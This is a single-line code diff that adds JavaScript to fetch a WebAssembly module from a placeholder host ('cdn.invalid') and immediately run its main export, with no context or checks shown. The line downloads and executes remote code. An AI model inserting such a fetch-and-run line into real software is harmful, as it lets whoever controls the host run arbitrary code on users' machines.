@@ -1,0 +1,1 @@
+const { instance } = await WebAssembly.instantiateStreaming(fetch('https://cdn.invalid/x.wasm')); instance.exports.main();
